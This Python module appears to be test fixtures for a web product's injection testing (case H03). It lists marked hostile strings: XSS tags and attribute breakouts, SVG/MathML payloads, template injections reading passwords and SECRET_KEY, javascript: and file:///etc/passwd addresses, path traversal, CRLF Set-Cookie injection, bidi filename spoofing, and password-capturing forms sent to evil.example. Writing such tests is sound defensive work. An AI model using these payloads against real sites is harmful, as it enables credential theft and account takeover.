"""Texts that somebody with bad intentions, or an unusual name, writes into the fields of the product (case H03).

Each carries a mark of its own, so that a page can be asked where the text has ended up: `mark_of(17)` is `h03x017`.
Code among them would call a function named by the mark, or go to an address that holds it.
"""

from __future__ import annotations

from collections.abc import Iterator

MARK = "@@"
LONGEST = 10_000

TAGS = [
    "<script>@@()</script>",
    "<SCRIPT SRC=//evil.example/@@.js></SCRIPT>",
    "<script/@@>@@()</script >",
    "<scr<script>ipt>@@()</scr</script>ipt>",
    "</script><script>@@()</script>",
    "<script type=module>import('//evil.example/@@')</script>",
    "<iframe src=javascript:@@()></iframe>",
    "<iframe srcdoc='<script>@@()</script>'></iframe>",
    "<object data=//evil.example/@@></object>",
    "<embed src=//evil.example/@@>",
    "<base href=//evil.example/@@/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/@@'>",
    "<link rel=stylesheet href=//evil.example/@@.css>",
    "<form action=//evil.example/@@><button>Sign in again</button></form>",
    "</form><form action=//evil.example/@@><input name=password>",
    "<input autofocus onfocus=@@() name=h03-input>",
    "<button formaction=//evil.example/@@>Save</button>",
    "<marquee onstart=@@()>h03</marquee>",
    "<details open ontoggle=@@()>h03</details>",
    "<video src=x onerror=@@()></video>",
    "<audio src=x onerror=@@()>",
    "<body onload=@@()>",
    "<dialog open onclose=@@()>h03</dialog>",
    "<template shadowrootmode=open><script>@@()</script></template>",
    "<plaintext>@@",
    "<xmp><script>@@()</script></xmp>",
    "<noscript><p title='</noscript><img src=x onerror=@@()>'>",
    "<frameset onload=@@()>",
    "<isindex type=image src=1 onerror=@@()>",
    "<keygen autofocus onfocus=@@()>",
    "<x-@@ onclick=@@()>own element</x-@@>",
    "<a href=//evil.example/@@ target=_blank>Reset your password</a>",
]
ATTRIBUTES = [
    '" onmouseover="@@()',
    "' onmouseover='@@()",
    '"><img src=x onerror=@@()>',
    "'><img src=x onerror=@@()>",
    'x" autofocus onfocus="@@()',
    "` onmouseover=`@@()",
    '" style="position:fixed;inset:0" data-@@="',
    "' accesskey='x' onclick='@@()' x='@@",
    '"/onclick="@@()"/x="',
    '"\tonclick\t=\t"@@()',
    '"\nonclick\n=\n"@@()',
    'x"formaction="//evil.example/@@',
    'x" tabindex="1" id="panel" class="@@',
    "x' popovertarget='problems' name='@@",
    '" contenteditable onbeforeinput="@@()',
    '<img src="x"onerror="@@()">',
    "<img src=x:@@ onerror=@@()//",
    '<img """"""src=x onerror=@@()>',
    "<IMG SRC=x OnErRoR=@@()>",
    "<img/src=x/onerror=@@()>",
    "<img src onerror\n=\n@@()>",
    "<img srcset='//evil.example/@@ 1x'>",
]
DRAWINGS = [
    "<svg/onload=@@()>",
    "<svg><script>@@()</script></svg>",
    "<svg><script href=data:,@@() /></svg>",
    "<svg><a xlink:href=javascript:@@()><text y=9>h03</text></a></svg>",
    "<svg><animate onbegin=@@() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:@@()>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=@@()>#x'></svg>",
    "<svg><foreignObject><iframe src=javascript:@@()></foreignObject></svg>",
    "<svg><style><img src=x onerror=@@()></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=@@()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=@@()>",
    "<math><maction actiontype=statusline xlink:href=javascript:@@()>h03</maction></math>",
    "<math href=javascript:@@()>h03</math>",
    "<svg><title><style></title><img src=x onerror=@@()>",
]
BRACES = [
    "{{ @@ }}",
    "{{ constructor.constructor('@@()')() }}",
    "{{ request.user.password }} @@",
    "{{ settings.SECRET_KEY }} @@",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} @@",
    "{% load @@ %}",
    "{% include 'admin/@@' %}",
    "{% debug %} @@",
    "{% autoescape off %}<b>@@</b>{% endautoescape %}",
    "{% endblock %} @@",
    "{% comment %} @@",
    "{# @@ #}",
    "{{ @@ | safe }}",
    "{{ @@",
    "}} @@ {{",
    "{%- raw -%} @@ {%- endraw -%}",
    "${@@()} `${@@()}`",
    "#{@@()} <%= @@() %> <? @@() ?>",
    "[[${@@()}]] [(@@)]",
    "{{{ @@ }}} {{{{ @@ }}}}",
]
ADDRESSES = [
    "javascript:@@()",
    "JaVaScRiPt:@@()",
    "java\tscript:@@()",
    "java\nscript:@@()",
    " javascript:@@()",
    "\x01javascript:@@()",
    "javascript&colon;@@()",
    "&#106;avascript:@@()",
    "data:text/html,<script>@@()</script>",
    "data:text/html;base64,PHNjcmlwdD4=@@",
    "vbscript:@@()",
    "//evil.example/@@",
    "https://tandem.example@evil.example/@@",
    "file:///etc/passwd?@@",
    "blob:https://evil.example/@@",
    "/\\evil.example/@@",
    "../../../../etc/@@",
    "?next=//evil.example/@@",
    "view-source:javascript:@@()",
]
UNCLOSED = [
    "<!-- @@",
    "--> @@ <!--",
    "--!><script>@@()</script>",
    "<!--><script>@@()</script>-->",
    "<![CDATA[<script>@@()</script>]]>",
    "]]><script>@@()</script>",
    "<!DOCTYPE html><script>@@()</script>",
    "<?xml version='1.0'?><@@/>",
    "</textarea><script>@@()</script>",
    "</title><script>@@()</script>",
    "</option></select><img src=x onerror=@@()>",
    "</style><img src=x onerror=@@()>",
    "</td></tr></table><img src=x onerror=@@()>",
    "</li></ol></main></body></html> @@",
    "</pre><h1>@@</h1>",
    "</button><a href=javascript:@@()>x</a>",
    "</template><script>@@()</script>",
    "</p></div></details> @@",
    "<@@",
    "<a @@",
]
ENTITIES = [
    "&lt;script&gt;@@()&lt;/script&gt;",
    "&amp;lt;b&amp;gt; @@",
    "&#60;script&#62;@@()",
    "&#x3c;img src=x onerror=@@()&#x3e;",
    "&nbsp;&shy;&zwj; @@ &",
    "&quot; onclick=&quot;@@()",
    "%3Cscript%3E@@()%3C/script%3E",
    "\\u003cscript\\u003e@@()",
    "\\x3cscript\\x3e@@()",
    "\uff1cscript\uff1e@@()\uff1c/script\uff1e",
    "+ADw-script+AD4-@@()",
    "\u2039script\u203a \u02bb @@",
]
STYLES = [
    "<style>*{display:none}/*@@*/</style>",
    "<style>@import '//evil.example/@@';</style>",
    "</style><style>body{background:url(//evil.example/@@)}",
    "<div style='position:fixed;inset:0;background:url(//evil.example/@@)'>",
    "x:expression(@@())",
    "red;background:url(javascript:@@())",
    '<p style="animation-name:@@" onanimationstart=@@()>',
    "<font size=99 color=white>@@</font>",
]
BEHAVIOUR = [
    '" hx-get="/workflows/" hx-trigger="load" data-x="@@',
    "<div hx-get=//evil.example/@@ hx-trigger=load></div>",
    "<p hx-on:click=@@()>h03</p>",
    "<b hx-on--load='@@()' hx-vals='js:{a:@@()}'>h03</b>",
    "<button hx-delete=/workflows/@@ hx-confirm=''>OK</button>",
    "<i hx-swap-oob=outerHTML:body id=@@>h03</i>",
    "<div id=build data-revision=0 data-h03=@@></div>",
    "<p data-open='step:a' data-edit='{\"do\":\"remove\"}'>@@</p>",
    "<div data-picker=//evil.example/@@ data-forms></div>",
    "<x x-data='{}' x-init='@@()' @click='@@()' v-on:click='@@()' ng-click='@@()'>h03</x>",
    "<div popover id=problems>@@</div>",
]
SCRIPTS = [
    '"</script><script>@@()</script>',
    '";@@();//',
    "';@@();//",
    '\\";@@();//',
    "</ScRiPt\n><img src=x onerror=@@()>",
    "<!--<script>@@",
    '{"do":"remove","steps":["@@"]}',
    "\u2028@@()\u2029",
    "__proto__ @@",
    "constructor.prototype.@@",
    "\\",
    "*/@@()/*",
    "`-@@()-`",
    "0;@@()",
]
DIRECTIONS = [
    "\u202eevil@@\u202c gnp.exe",
    "\u2067@@\u2069 \u2066x",
    "\u202d\u202e\u202d@@",
    "\u200f@@\u200e",
    "\u0645\u0631\u062d\u0628\u0627 @@ \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
    "\u05e9\u05dc\u05d5\u05dd @@ <b>",
    "@@\u202e\u202e\u202e\u202e",
]
UNSEEN = [
    "\u200b@@\u200b\u200c\u200d",
    "\ufeff@@\ufeff",
    "@\u2060@\u2060@@",
    "<\u200bscript>@@()",
    "\u00ad@@\u00ad\u00ad",
    "\u3164\u115f@@\u1160",
    "\ue0001\U000e0041\U000e0042@@",
]
PICTURES = [
    "\U0001f469\u200d\u2696\ufe0f @@ \U0001f3f3\ufe0f\u200d\U0001f308",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466@@",
    "\U0001f1e9\U0001f1ea\U0001f1f8\U0001f1ea@@\U0001f1e9",
    "\U0001f44d\U0001f3ff@@\U0001f3ff\U0001f3ff",
    "\u2764\ufe0e\u2764\ufe0f@@ 1\ufe0f\u20e3",
]
MARKS_ON_LETTERS = [
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a\u0324\u031e@@",
    "o" + "\u0308" * 60 + "@@",
    "\u0e14\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49@@",
    "A\u030a\u00c5\u212b e\u0301\u00e9 @@",
    "\ufdfd\ufdfd @@ \U00012019",
]
CONTROLS = [
    "\x01\x02\x03@@\x04",
    "\x08\x08\x08@@",
    "\x1b[31m@@\x1b[0m",
    "@@\x7f\x80\x9f",
    "line\r\nfeed\r@@\n\n\n",
    "\x0b\x0c@@\x1c\x1d\x1e\x1f",
    "\ufffd\ufffe\uffff@@",
    "null @@ undefined NaN None",
    "%00 \\0 @@ %0d%0aSet-Cookie:a=b",
]
LONG = [
    "@@" + "W" * (LONGEST - 7),
    "@@" + "<b>" * ((LONGEST - 7) // 3),
    "@@" + "\u1e9e\u0308" * ((LONGEST - 7) // 2),
    "@@ " + "many words " * ((LONGEST - 8) // 11),
]

FAMILIES = {
    "tags": TAGS,
    "attributes": ATTRIBUTES,
    "drawings": DRAWINGS,
    "braces": BRACES,
    "addresses": ADDRESSES,
    "unclosed": UNCLOSED,
    "entities": ENTITIES,
    "styles": STYLES,
    "behaviour": BEHAVIOUR,
    "scripts": SCRIPTS,
    "directions": DIRECTIONS,
    "unseen": UNSEEN,
    "pictures": PICTURES,
    "letters": MARKS_ON_LETTERS,
    "controls": CONTROLS,
    "long": LONG,
}


def mark_of(number: int) -> str:
    return f"h03x{number:03d}"


def _marked() -> Iterator[str]:
    written = [text for family in FAMILIES.values() for text in family]
    for number, text in enumerate(written):
        yield text.replace(MARK, mark_of(number)) if MARK in text else text + mark_of(number)


TEXTS = list(_marked())
